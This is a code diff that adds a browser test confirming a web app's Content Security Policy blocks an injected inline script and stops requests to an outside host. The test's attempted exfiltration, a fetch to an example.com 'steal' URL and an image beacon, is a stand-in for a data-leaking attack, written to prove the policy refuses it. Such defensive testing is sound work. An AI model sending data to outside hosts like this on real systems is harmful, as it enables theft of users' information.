@@ -53,6 +53,33 @@ def test_home_page_loads_clean(page, server, watch, wait_ready):
     assert page.evaluate("document.title").strip(), "the page has no title"
 
 
+def test_the_content_security_policy_allows_our_origin_alone(page, server, watch, wait_ready):
+    """The policy of index.html (its reasons are written beside it) at work: an injected
+    inline script does not run, and nothing may be fetched from, or sent to, elsewhere."""
+    violations, failed = [], {}
+    page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
+    page.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure))
+    watch.allow(r"Content Security Policy|example\.com")   # the refusals this test provokes
+    page.goto(server.url)
+    wait_ready(page)
+    assert not violations, violations               # the app itself never trips it
+    ran = page.evaluate("""() => { window.__injected = false;
+        const s = document.createElement("script"); s.textContent = "window.__injected = true";
+        document.body.append(s); return window.__injected; }""")
+    assert ran is False
+    outcome = page.evaluate("""() => fetch("http://example.com/steal?x=1", {mode: "no-cors"})
+                                   .then(() => "sent", () => "refused")""")
+    assert outcome == "refused"
+    page.evaluate("""() => { const i = new Image(); i.src = "http://example.com/pixel.png";
+                             document.body.append(i); }""")
+    page.wait_for_timeout(300)
+    assert len(violations) >= 3, violations
+    # each was stopped by the browser before it left: none reached the network
+    assert watch.offsite and all(failed.get(u) == "csp" for u in watch.offsite), (watch.offsite, failed)
+    watch.offsite.clear()
+    watch.check()
+
+
 @contextlib.contextmanager
 def _first_visit(browser, srv, new_watch, open_watched, wait_ready):
     """A context that lets service workers in, watched, with the app opened once and ready."""
